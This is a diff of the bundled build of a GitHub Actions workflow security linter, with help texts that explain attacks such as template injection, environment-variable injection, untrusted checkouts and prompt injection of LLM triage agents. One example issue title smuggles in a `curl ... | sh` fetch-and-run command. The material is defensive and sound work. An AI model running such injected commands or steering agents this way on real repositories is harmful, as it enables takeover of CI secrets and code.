{}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: npm\\n    permissions:\\n      contents: read\\n      id-token: write\\n    steps:\\n      - uses: actions/checkout@v6\\n      - uses: actions/setup-node@v6\\n        with:\\n          registry-url: https://registry.npmjs.org\\n      - run: npm publish\\n        env:\\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\\n```\\n\\nName the workflow and its environment at the registry, remove the token from the job, then revoke it and forbid tokens for the package:\\n\\n```yaml after\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: npm\\n    permissions:\\n      contents: read\\n      id-token: write\\n    steps:\\n      - uses: actions/checkout@v6\\n      - uses: actions/setup-node@v6\\n        with:\\n          registry-url: https://registry.npmjs.org\\n      - run: npm publish\\n```\\n\\n```yaml after\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: crates-io\\n    permissions:\\n      contents: read\\n      id-token: write\\n    steps:\\n      - uses: actions/checkout@v6\\n      - uses: rust-lang/crates-io-auth-action@v1\\n        id: auth\\n      - run: cargo publish\\n        env:\\n          CARGO_REGISTRY_TOKEN: ${{ steps.auth.outputs.token }}\\n```\\n"}');
 ;// CONCATENATED MODULE: ./packages/core/build/rules/help/trigger-guard.json
 const trigger_guard_namespaceObject = /*#__PURE__*/JSON.parse('{"agent-prompt-injection":"An LLM agent acts on an outsider\'s text\\n\\nAn agent does what its prompt says, and everything it reads is prompt. Where it runs on issues, comments or pull requests of outsiders, their text tells it what to do; with a shell, or with tools that change things, it does that with the job\'s token and within reach of the job\'s secrets. Filters and stern instructions lower the odds and decide nothing.\\n\\n## Fix\\n\\nLet members start it, give it tools that read, and keep secrets and write permissions out of its job:\\n\\n```yaml before\\non: issues\\npermissions:\\n  contents: write\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: anthropics/claude-code-action@24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0 # v1.0.200\\n        with:\\n          anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}\\n          allowed_non_write_users: \\"*\\"\\n          claude_args: --allowedTools \\"Bash\\"\\n          prompt: Triage \\"${{ github.event.issue.title }}\\"\\n```\\n\\n```yaml after\\non: workflow_dispatch\\npermissions: {}\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    environment: agents\\n    permissions:\\n      issues: read # to read the issue\\n    steps:\\n      - uses: anthropics/claude-code-action@24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0 # v1.0.200\\n        with:\\n          anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}\\n          claude_args: --allowedTools \\"Read\\"\\n          prompt: Triage the issue that a member asked for\\n```\\n\\nWhat the agent answers is an outsider\'s text too: check it before a second job acts on it.\\n","bot-conditions":"A bot is told by who acted last\\n\\nMany repositories merge what Dependabot or Renovate proposes without a person, behind `if: github.actor == \'dependabot[bot]\'`. But `github.actor` is whoever caused *this* event, and not whoever wrote the pull request. An outsider forks the repository, lets Dependabot make a commit on a branch of the fork, opens a pull request from that branch with commits of their own below it, and has Dependabot push once more: the event that follows has the bot as its actor and the outsider\'s code as its content. [Synacktiv](https://www.synacktiv.com/publications/github-actions-exploitation-dependabot) showed it in 2024, [BoostSecurity](https://labs.boostsecurity.io/articles/weaponizing-dependabot-pwn-request-at-its-finest/) with more ways in 2025. Mozilla mended it in the [MDN HTTP Observatory](https://github.com/mdn/mdn-http-observatory/pull/84), osbuild in [image-builder](https://github.com/osbuild/image-builder/pull/1912), scala-steward in [its action](https://github.com/scala-steward-org/scala-steward-action/pull/670). These two lines are enough:\\n\\n## Fix\\n\\n```yaml before\\non: pull_request_target\\npermissions:\\n  contents: write\\n  pull-requests: write\\njobs:\\n  merge:\\n    runs-on: ubuntu-latest\\n    if: github.actor == \'dependabot[bot]\'\\n    steps:\\n      - run: gh pr merge --auto --squash \\"$PR\\"\\n        env:\\n          PR: ${{ github.event.pull_request.html_url }}\\n          GH_TOKEN: ${{ github.token }}\\n```\\n\\n```yaml after\\non: pull_request\\npermissions:\\n  contents: write\\n  pull-requests: write\\njobs:\\n  merge:\\n    runs-on: ubuntu-latest\\n    if: github.event.pull_request.user.login == \'dependabot[bot]\'\\n    steps:\\n      - run: gh pr merge --auto --squash \\"$PR\\"\\n        env:\\n          PR: ${{ github.event.pull_request.html_url }}\\n          GH_TOKEN: ${{ github.token }}\\n```\\n\\nAn author says nothing of the commits that somebody with write access has added since. Where that matters, test the actor as well:\\n\\n```yaml after\\non: pull_request\\njobs:\\n  merge:\\n    runs-on: ubuntu-latest\\n    if: >-\\n      github.actor == \'dependabot[bot]\' &&\\n      github.event.pull_request.user.login == \'dependabot[bot]\'\\n    steps:\\n      - run: make test\\n```\\n","dangerous-triggers":"A trigger that gives the rights of the repository to what outsiders cause\\n\\n`pull_request_target` starts for the pull request of anybody, with the secrets, the token and the cache scope of the default branch, and no approval is asked for. `workflow_run` starts after another workflow has ended, with the same rights: a pull request can start that one, can carry a workflow of the same name, and decides what it leaves behind.\\n\\n## Fix\\n\\nMostly a right is wanted to show a result. A job summary needs none:\\n\\n```yaml before\\non: pull_request_target\\npermissions:\\n  pull-requests: write\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npx some-linter | gh pr comment \\"$NUMBER\\" --body-file -\\n        env:\\n          NUMBER: ${{ github.event.number }}\\n          GH_TOKEN: ${{ github.token }}\\n```\\n\\n```yaml after\\non: pull_request\\npermissions:\\n  contents: read\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npx some-linter >> \\"$GITHUB_STEP_SUMMARY\\"\\n```\\n\\nWhat has to follow another job of the same run needs no `workflow_run`:\\n\\n```yaml before\\non:\\n  workflow_run:\\n    workflows: [CI]\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: ./publish.sh\\n        env:\\n          TOKEN: ${{ secrets.TOKEN }}\\n```\\n\\n```yaml after\\non:\\n  push:\\n    branches: [main]\\npermissions: {}\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: ./test.sh\\n  publish:\\n    needs: test\\n    environment: publish\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: ./publish.sh\\n        env:\\n          TOKEN: ${{ secrets.TOKEN }}\\n```\\n\\nLabels, comments and checks on everybody\'s pull requests are the work of a small GitHub App: it holds one right, answers to a webhook, and runs nothing of what it is sent.\\n","github-env":"Somebody else\'s text becomes a variable of all later steps\\n\\nWhat a script appends to the file `GITHUB_ENV` is set for every step after it, and what it appends to `GITHUB_PATH` is where they look for programs first. Each line of the file is a variable of its own. A text with a line end in it therefore sets variables that nobody meant: `LD_PRELOAD`, `BASH_ENV` and [many others](https://www.elttam.com/blog/env/) make the next step run what the author of the text wrote, without any `${{ }}` in a script and with correct quotes everywhere.\\n\\n## Fix\\n\\nDo not make it a variable of all steps. An output reaches only those that ask for it, and `env` of one step brings it there. Let only what you expect through:\\n\\n```yaml before\\non:\\n  workflow_run:\\n    workflows: [Tests]\\n    types: [completed]\\npermissions: {}\\njobs:\\n  comment:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - uses: actions/download-artifact@v5\\n        with:\\n          name: pull-request\\n          run-id: ${{ github.event.workflow_run.id }}\\n          github-token: ${{ github.token }}\\n      - run: echo \\"NUMBER=$(cat number.txt)\\" >> \\"$GITHUB_ENV\\"\\n      - run: ./preview \\"$NUMBER\\"\\n```\\n\\n```yaml after\\non:\\n  workflow_run:\\n    workflows: [Tests]\\n    types: [completed]\\npermissions: {}\\njobs:\\n  comment:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - uses: actions/download-artifact@v5\\n        with:\\n          name: pull-request\\n          run-id: ${{ github.event.workflow_run.id }}\\n          github-token: ${{ github.token }}\\n      - id: pull\\n        run: |\\n          number=$(cat number.txt)\\n          [[ \\"$number\\" =~ ^[0-9]+$ ]] || exit 1\\n          echo \\"number=$number\\" >> \\"$GITHUB_OUTPUT\\"\\n      - run: ./preview \\"$NUMBER\\"\\n        env:\\n          NUMBER: ${{ steps.pull.outputs.number }}\\n```\\n","insecure-commands":"Whatever a step prints can set variables and paths\\n\\nA runner reads its commands from what steps print. Until 2020 two of them, `::set-env` and `::add-path`, set variables and the path of every later step. A log is full of text that others write: the title of an issue that is echoed, the name of a file that a test prints, the message of a commit. Each could carry a line such as `::set-env name=BASH_ENV::\u2026`, and run code in the next step.\\n\\n## Fix\\n\\nWrite to the files that took the place of the commands:\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    env:\\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true\\n    steps:\\n      - run: echo \\"::add-path::$HOME/.local/bin\\"\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \\"$HOME/.local/bin\\" >> \\"$GITHUB_PATH\\"\\n```\\n","obfuscation":"Text that says something else than it seems to\\n\\nA workflow is read by people and by programs before it is trusted. What neither can read is either an accident or was made so.\\n\\n## Fix\\n\\nWrite what is meant:\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout/@v6\\n      - run: echo \\"${{ format(\'{0}-{1}\', \'a\', \'b\') }}\\"\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v6\\n      - run: echo \\"a-b\\"\\n```\\n","self-hosted-runner":"A job runs on a machine of your own\\n\\nA runner of GitHub\'s is made for one job and thrown away. A machine of your own is, unless somebody takes care of it, the same for every job: what one leaves behind (a process, a changed tool, a file in a cache) is there for the next, with its token and its secrets. On a public repository one of these jobs is a pull request of anybody, since a fork brings its own code.\\n\\n## Fix\\n\\n```yaml before\\non: pull_request\\njobs:\\n  test:\\n    runs-on: [self-hosted, linux]\\n    steps:\\n      - run: make test\\n```\\n\\n```yaml after\\non: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make test\\n```\\n\\nWhere it has to be a machine of your own: start it [for one job](https://github.blog/changelog/2021-09-20-github-actions-ephemeral-self-hosted-runners-new-webhooks-for-auto-scaling), in a runner group that only the workflows in question may use, let outsiders\' pull requests wait for an approval, and suppress the finding with that as the reason.\\n","template-injection":"Somebody else\'s text is pasted into a script\\n\\nGitHub fills `${{ \u2026 }}` in before a shell reads the script. What stands there becomes part of the program: a title such as `\\"; curl https://example.net/x | sh; \\"` is no longer a title. Quotes around the expression do not help, since the text brings its own, and neither does a comment, since the text brings its own line end.\\n\\n## Fix\\n\\nHand the text over as a variable. The shell then reads it as data:\\n\\n```yaml before\\non: issues\\npermissions: {}\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      issues: write\\n    steps:\\n      - run: echo \\"${{ github.event.issue.title }}\\"\\n```\\n\\n```yaml after\\non: issues\\npermissions: {}\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      issues: write\\n    steps:\\n      - run: echo \\"$TITLE\\"\\n        env:\\n          TITLE: ${{ github.event.issue.title }}\\n```\\n\\n`${{ env.TITLE }}` is no variable: it is pasted like everything else. `portcullis fix --only injection` does this where the shell\'s quoting leaves no doubt.\\n","unsound-condition":"A condition that is always true\\n\\nThe value of an `if` is an expression as it stands. With `${{ \u2026 }}` around all of it, it is the same expression. With anything beside the `${{ \u2026 }}` it is a text with a hole: GitHub makes `format(\'{0} == \u2026\', \u2026)` of it, and a text that is not empty counts as true. Nothing fails and nothing warns; the step runs every time. It was reported to GitHub [in 2021](https://github.com/actions/runner/issues/1173) and is as it was; [the log of a run](https://github.com/actions/runner/issues/1395) shows the call.\\n\\n## Fix\\n\\n```yaml before\\non: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    if: ${{ github.ref_name }} == \'main\'\\n    steps:\\n      - run: ./deploy\\n```\\n\\n```yaml before\\non: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    if: |\\n      ${{\\n        github.event_name == \'push\' &&\\n        github.ref_name == \'main\'\\n      }}\\n    steps:\\n      - run: ./deploy\\n```\\n\\n```yaml before\\non: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    if: github.ref_name == \'main\' || \'develop\'\\n    steps:\\n      - run: ./deploy\\n```\\n\\nLeave the braces away: blanks and line breaks around an expression mean nothing.\\n\\n```yaml after\\non: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    if: |\\n      github.event_name == \'push\' &&\\n      (github.ref_name == \'main\' || github.ref_name == \'develop\')\\n    steps:\\n      - run: ./deploy\\n```\\n\\nOr let the block end without a line break:\\n\\n```yaml after\\non: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    if: >-\\n      ${{ github.ref_name == \'main\' }}\\n    steps:\\n      - run: ./deploy\\n```\\n","unsound-contains":"A list of allowed values that is searched as one text\\n\\n`contains` looks for an element when it is given a list, and for a part when it is given a text. `contains(\'alice,bob\', github.actor)` is true for `alice` and for `bob`, and for `ali`, for `b`, for `e,b`, and for nothing at all: an empty text is a part of every text, and a property that an event does not have is empty.\\n\\n## Fix\\n\\n```yaml before\\non: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    if: contains(\'refs/heads/main refs/heads/develop\', github.ref)\\n    steps:\\n      - run: ./deploy\\n```\\n\\n```yaml after\\non: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    if: contains(fromJSON(\'[\\"refs/heads/main\\", \\"refs/heads/develop\\"]\'), github.ref)\\n    steps:\\n      - run: ./deploy\\n```\\n\\nOr compare one by one:\\n\\n```yaml after\\non: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    if: github.ref_name == \'main\' || github.ref_name == \'develop\'\\n    steps:\\n      - run: ./deploy\\n```\\n","unsound-ternary":"A choice of two values that never makes the first\\n\\n`a && b || c` is read as \\"if a then b, else c\\". It is so only where `b` counts as true. Where `b` is an empty text, `0`, `false` or `null`, `a && b` is `b`, which counts as false, and `c` is taken: always.\\n\\n## Fix\\n\\n```yaml before\\non: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    environment: ${{ github.event.pull_request.head.repo.fork && \'\' || \'internal\' }}\\n    steps:\\n      - run: make test\\n```\\n\\n```yaml after\\non: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    environment: ${{ case(github.event.pull_request.head.repo.fork, \'\', \'internal\') }}\\n    steps:\\n      - run: make test\\n```\\n\\nWhere `case` is not there (an older GitHub Enterprise Server), turn it round, so that what counts as false stands last:\\n\\n```yaml after\\non: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    environment: ${{ !github.event.pull_request.head.repo.fork && \'internal\' || \'\' }}\\n    steps:\\n      - run: make test\\n```\\n","untrusted-checkout":"A pull request\'s code is checked out where secrets or a writing token are\\n\\n`pull_request` keeps the code of a fork away from secrets and gives it a token that only reads. `pull_request_target`, `workflow_run`, `issue_comment` and their like start with the rights of the repository, and check out its default branch. A job that fetches the pull request instead, and then installs, builds, tests or lints it, gives those rights to whoever opened it: a build file, a package script, a plug-in of a linter or a local action (`uses: ./\u2026`) is enough.\\n\\n## Fix\\n\\nBuild what others send with `pull_request`; it needs no rights. What has to be written afterwards goes into a job that runs none of that code: it reads a small file that the first one has left, and trusts nothing in it.\\n\\n```yaml before\\non: pull_request_target\\npermissions:\\n  pull-requests: write\\njobs:\\n  size:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v6\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: npm ci && npm run size\\n```\\n\\n```yaml after\\non: pull_request\\npermissions:\\n  contents: read\\njobs:\\n  size:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v6\\n        with:\\n          persist-credentials: false\\n      - run: npm ci && npm run size >> \\"$GITHUB_STEP_SUMMARY\\"\\n```\\n\\nWhen only files of the pull request are wanted and nothing of it is run, ask the API for them; then there is no checkout:\\n\\n```yaml before\\non:\\n  issue_comment:\\npermissions:\\n  contents: write\\njobs:\\n  notes:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v6\\n      - run: |\\n          gh pr checkout ${{ github.event.issue.number }}\\n          python tools/notes.py\\n```\\n\\n```yaml after\\non:\\n  issue_comment:\\npermissions:\\n  contents: write\\njobs:\\n  notes:\\n    if: github.event.comment.author_association == \'MEMBER\'\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v6\\n      - run: gh pr diff \\"$NUMBER\\" > notes.diff && python tools/notes.py notes.diff\\n        env:\\n          NUMBER: ${{ github.event.issue.number }}\\n```\\n","untrusted-comment-trigger":"A comment or an issue of anybody starts a job with secrets or a writing token\\n\\nAnybody with an account can open an issue, comment on one, discuss, or review a pull request, and each of these starts workflows of the default branch with its secrets and its token. Approval for first-time contributors, which holds back `pull_request`, is asked for none of them. What such a job does with the words it was sent is then all that stands between a stranger and the repository: one expression in a script, one agent that reads the comment, one ref that is taken from it.\\n\\n## Fix\\n\\nAsk in the `if` of the job, for whoever caused *this* event:\\n\\n```yaml before\\non: issue_comment\\npermissions:\\n  contents: write\\njobs:\\n  update:\\n    if: contains(github.event.comment.body, \'/update\')\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: ./update.sh\\n```\\n\\n```yaml after\\non: issue_comment\\npermissions:\\n  contents: write\\njobs:\\n  update:\\n    if: >-\\n      contains(github.event.comment.body, \'/update\') &&\\n      contains(fromJSON(\'[\\"OWNER\\", \\"MEMBER\\", \\"COLLABORATOR\\"]\'), github.event.comment.author_association)\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: ./update.sh\\n```\\n\\nAn environment with reviewers asks a person, and holds the secrets:\\n\\n```yaml after\\non: issue_comment\\npermissions: {}\\njobs:\\n  update:\\n    environment: helpdesk\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: ./update.sh\\n        env:\\n          KEY: ${{ secrets.HELPDESK_KEY }}\\n```\\n\\nWhat must answer to everybody is better a small GitHub App: it has one right, and runs no shell.\\n"}');
 ;// CONCATENATED MODULE: ./packages/core/build/facts/cache-events.json
@@ -3610,9 +3610,18 @@ function rootWorkflows(repository) {
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/analysis/runs/run-budget.js
-/** Enough for any repository that somebody maintains. */
+/**
+ * Enough for any repository that somebody maintains: of 247 the one with the most, of nine workflows, has 929 jobs and
+ * 5,136 steps in all its kinds of run.
+ */
 function toRunBudget(workflows) {
-	return { jobs: 10_000 + 300 * workflows, visits: 1_000_000, cut: new Set() };
+	return {
+		jobs: 2_000 + 100 * workflows,
+		steps: 5_000 + 1_000 * workflows,
+		taken: new Map(),
+		visits: 1_000_000,
+		cut: new Set(),
+	};
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/analysis/scenario/scenarios-of.js
@@ -3729,7 +3738,7 @@ function stepsOf(owner) {
 
 // The runner allows ten levels of composite actions.
 const planned_steps_maxDepth = 10;
-const maxSteps = 2_000;
+const maxSteps = 1_000;
 const planned_steps_cache = new WeakMap();
 /**
  * The steps of a job, or of a composite action by itself, and of the local composite actions it uses, in order;
@@ -11302,8 +11311,19 @@ class parser_Parser {
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/analysis/shell/program-name.js
+const program_name_known = new Map();
+const program_name_maxKnown = 4_096;
 /** The name of a program as it is called: without folders, `.exe` and a version (`twine==6.1.0`, `python3.12`). */
 function programName(word) {
+	const name = program_name_known.get(word) ?? nameOf(word);
+	// Few programs are called, and often; arguments and hostile words are not kept for long.
+	if (program_name_known.size >= program_name_maxKnown)
+		program_name_known.clear();
+	if (word.length < 100)
+		program_name_known.set(word, name);
+	return name;
+}
+function nameOf(word) {
 	const name = word.slice(Math.max(word.lastIndexOf('/'), word.lastIndexOf('\\')) + 1);
 	return name
 		.replace(/\.(?:exe|cmd|ps1)$/i, '')
@@ -11843,20 +11863,34 @@ function textOf(scalar, { frame, step }) {
 
 
 
+// All kinds of run of one workflow, with the workflows that it calls.
+const maxTaken = 6_000;
 const steps_in_cache = new WeakMap();
 /**
  * The wanted steps that a job can run, those of local composite actions included. Conditions are judged for the
  * wanted ones only: most steps are of no interest to whoever asks.
  */
 function stepsIn(run, repository, isWanted) {
-	const sites = steps_in_cache.get(run) ?? new Map();
-	steps_in_cache.set(run, sites);
-	const { steps, isCut } = plannedSteps(run.job, repository);
-	if (isCut)
-		run.budget.cut.add(run.job);
+	const { steps, sites } = steps_in_cache.get(run) ?? start(run, repository);
 	return steps
 		.filter(({ step }) => isWanted(step))
 		.flatMap((planned) => siteOf(planned, run, sites) ?? []);
+}
+function start(run, repository) {
+	const { budget, job, root } = run;
+	const { steps, isCut } = plannedSteps(job, repository);
+	const taken = budget.taken.get(root) ?? 0;
+	const known = {
+		steps: steps.slice(0, Math.min(budget.steps, maxTaken - taken)),
+		sites: new Map(),
+	};
+	const { length } = known.steps;
+	budget.steps -= length;
+	budget.taken.set(root, taken + length);
+	if (isCut || length < steps.length)
+		budget.cut.add(job);
+	steps_in_cache.set(run, known);
+	return known;
 }
 /** undefined when a condition on the way keeps the step from running. */
 function siteOf(planned, run, sites) {
@@ -12957,6 +12991,7 @@ const actionReleases = new Map(Object.entries(action_releases_namespaceObject.o1
 
 ;// CONCATENATED MODULE: ./packages/core/build/analysis/line-of.js
 
+
 /** The line of an offset, counted from 0. */
 function lineOf(source, offset) {
 	const starts = lineStarts(source);
@@ -13285,7 +13320,13 @@ function mentionsVariable({ job }, repository) {
 		if (owner.kind === 'action')
 			sources.add(owner.source);
 	}
-	return [...sources].some(({ text }) => cacheVariables.some(({ env }) => text.includes(env)));
+	return [...sources].some(caches_in_mentions);
+}
+const mentioning = new WeakMap();
+function caches_in_mentions(source) {
+	const known = mentioning.get(source) ?? cacheVariables.some(({ env }) => source.text.includes(env));
+	mentioning.set(source, known);
+	return known;
 }
 /** A workflow of another repository. */
 function calledElsewhere({ job: { call }, callee }) {
@@ -13317,7 +13358,7 @@ function startHops(run) {
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/facts/checkout-actions.json
-const checkout_actions_namespaceObject = /*#__PURE__*/JSON.parse('{"o1":[{"repository":"actions/checkout","switch":"persist-credentials","outsideWorkspaceSince":6},{"repository":"useblacksmith/checkout","switch":"persist-credentials","outsideWorkspaceSince":1},{"repository":"namespacelabs/nscloud-checkout-action","switch":"persist-credentials","outsideWorkspaceSince":null},{"repository":"nschloe/action-cached-lfs-checkout","switch":null,"outsideWorkspaceSince":null}],"xL":{"2":8,"3":7,"4":4,"5":1,"6":1,"7":0},"pj":["stefanzweifel/git-auto-commit-action"]}');
+const checkout_actions_namespaceObject = /*#__PURE__*/JSON.parse('{"o1":[{"repository":"actions/checkout","switch":"persist-credentials","outsideWorkspaceSince":6,"keepsNothing":["1","1.0","1.2"],"keepsNothingSource":"action.yml of v1, v1.0.0 and v1.2.0 (plugin: checkout, in v1.1.0 checkoutV1_1) and src/Runner.Plugins/Repository/v1.0/GitSourceProvider.cs of https://github.com/actions/runner"},{"repository":"useblacksmith/checkout","switch":"persist-credentials","outsideWorkspaceSince":1},{"repository":"namespacelabs/nscloud-checkout-action","switch":"persist-credentials","outsideWorkspaceSince":null},{"repository":"nschloe/action-cached-lfs-checkout","switch":null,"outsideWorkspaceSince":null}],"xL":{"2":8,"3":7,"4":4,"5":1,"6":1,"7":0},"pj":["stefanzweifel/git-auto-commit-action"]}');
 ;// CONCATENATED MODULE: ./packages/core/build/facts/checkout-actions.js
 
 /** By `owner/name` in lower case. */
@@ -13383,6 +13424,28 @@ function isRuledOut(tree, { run, user }) {
 // Other conditions are rarely decided, and cost more.
 function asksEvent(tree) {
 	return JSON.stringify(tree).includes('"event_name"');
+}
+
+;// CONCATENATED MODULE: ./packages/core/build/analysis/taint/flow/too-long.js
+/** What stands for a text where it could not be followed to its source. */
+function tooLong(at, why = 'the way to here is too long to follow') {
+	const [source = ''] = at.source.text.slice(at.start, Math.min(at.end, at.start + 80)).split('\n');
+	return {
+		source,
+		class: 'free',
+		author: 'caller',
+		hops: [{ at, message: why }],
+		doubts: [why],
+	};
+}
+
+;// CONCATENATED MODULE: ./packages/core/build/analysis/taint/flow/left-out.js
+
+
+/** What was found where not all could be asked: also when none of those carries a text, one of the others may. */
+function leftOut(found, what, at) {
+	const doubt = `more than ${what}: others are left out`;
+	return found.length > 0 ? doubted(found, doubt) : [tooLong(at, doubt)];
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/facts/context-sources.json
@@ -13623,7 +13686,7 @@ function runsOf(root, repository, budget) {
 
 
 // A few are written by hand; each is asked for whenever an input of another workflow is.
-const maxDispatchers = 256;
+const maxDispatchers = 64;
 const dispatchers_of_cache = new WeakMap();
 /** All of them, in every run there is. */
 function dispatchersOf(repository) {
@@ -13632,16 +13695,18 @@ function dispatchersOf(repository) {
 	return known;
 }
 function dispatchers_of_find(repository) {
-	if (!repository.documents.some(({ source }) => mayDispatch.test(source.text)))
-		return [];
 	const found = [];
+	if (!repository.documents.some(({ source }) => mayDispatch.test(source.text))) {
+		return { found, isCut: false };
+	}
 	for (const run of everyRun(repository).runs) {
 		for (const step of stepsIn(run, repository, isDispatcher)) {
-			if (found.length < maxDispatchers)
-				found.push({ run, step });
+			if (found.length === maxDispatchers)
+				return { found, isCut: true };
+			found.push({ run, step });
 		}
 	}
-	return found;
+	return { found, isCut: false };
 }
 const mayDispatch = /\bgh +workflow +run\b|\/dispatches\b|(?:workflow|repository)-dispatch@/;
 function isDispatcher(step) {
@@ -13700,11 +13765,22 @@ function outermostOwner(owner, user) {
 
 
 
-/** The wanted steps of the whole job that have run before a place, those of its composite actions included. */
+/**
+ * The wanted steps of the whole job that have run before a place, those of its composite actions included. What is
+ * wanted is one function a question, since its answer is kept.
+ */
 function stepsBefore(site, isWanted) {
 	const { run, before } = site;
-	const all = run === undefined ? inActions(site, isWanted) : stepsIn(run, site.repository, isWanted);
+	const all = run === undefined ? inActions(site, isWanted) : inRun(run, site, isWanted);
 	return all.filter(({ order }) => order < before);
+}
+const steps_before_cache = new WeakMap();
+function inRun(run, { repository }, isWanted) {
+	const known = steps_before_cache.get(run) ?? new Map();
+	steps_before_cache.set(run, known);
+	const steps = known.get(isWanted) ?? stepsIn(run, repository, isWanted);
+	known.set(isWanted, steps);
+	return steps;
 }
 function inActions(site, isWanted) {
 	const { owner, user, repository } = site;
@@ -13804,9 +13880,12 @@ function foreignCode(site) {
 	const event = site.run?.frame.scenario.event;
 	if (event === undefined || /^(?:pull_request|push|schedule)$/.test(event))
 		return undefined;
-	const [step] = stepsBefore(site, (one) => placeOf(one) !== undefined);
+	const [step] = stepsBefore(site, isForeign);
 	const at = step === undefined ? undefined : placeOf(step.step);
 	return at && { at, message: 'the code of a pull request is fetched here' };
+}
+function isForeign(step) {
+	return placeOf(step) !== undefined;
 }
 const foreign_code_cache = new WeakMap();
 function placeOf(step) {
@@ -13971,6 +14050,7 @@ function ofPayload(path, where, { follow }) {
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/analysis/taint/flow/recall.js
+
 const answers = new WeakMap();
 // Nobody passes a text on so often by hand.
 const recall_maxDepth = 60;
@@ -13984,10 +14064,22 @@ function recall(about, { site, wanted }, find) {
 	const answer = known.get(key);
 	if (answer !== undefined)
 		return answer;
+	if (isSpent(site.repository))
+		return [tooLong(about.at)];
 	known.set(key, []);
 	const found = site.depth > recall_maxDepth ? [tooLong(about.at)] : find();
 	known.set(key, found);
 	return found;
+}
+// Of 247 repositories the one that asks most, of seven files, asks 2,400 questions, and few ask more than 500.
+const maxQuestions = 5_000;
+const questionsADocument = 100;
+const asked = new WeakMap();
+/** Whether more was asked than a repository of its size can mean; steps and outputs multiply in hostile ones. */
+function isSpent(repository) {
+	const count = (asked.get(repository) ?? 0) + 1;
+	asked.set(repository, count);
+	return count > maxQuestions + questionsADocument * repository.documents.length;
 }
 function answersFor(about, { run, repository }) {
 	const owner = run ?? repository;
@@ -14000,17 +14092,6 @@ function answersFor(about, { run, repository }) {
 function recall_keyOf({ step, user, isInEnv, before }, { path, as }) {
 	const keys = path.map((key) => (key === undefined ? '*' : `.${key}`));
 	return [before, step?.order, user?.order, isInEnv, as, ...keys].join(' ');
-}
-function tooLong(at) {
-	const message = 'the way to here is too long to follow';
-	const [source = ''] = at.source.text.slice(at.start, at.end).split('\n');
-	return {
-		source: source.slice(0, 80),
-		class: 'free',
-		author: 'caller',
-		hops: [{ at, message }],
-		doubts: [message],
-	};
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/analysis/taint/flow/site.js
@@ -16289,7 +16370,7 @@ function entries({ file, value, statement: { from, to } }, script) {
 	const said = withoutEcho(value, script.code);
 	const strings = listed(said, script.code);
 	return strings.map((one) => ({
-		...{ file, from, to, name: file === 'path' ? undefined : nameOf(one, script) },
+		...{ file, from, to, name: file === 'path' ? undefined : powershell_flow_nameOf(one, script) },
 		parts: partsIn(one, script, powershellDialect),
 	}));
 }
@@ -16313,7 +16394,7 @@ function listed(value, code) {
 	}
 	return found;
 }
-function nameOf(value, script) {
+function powershell_flow_nameOf(value, script) {
 	const bare = /^\s*([\w-]+)=/.exec(script.text.slice(value.from, value.to));
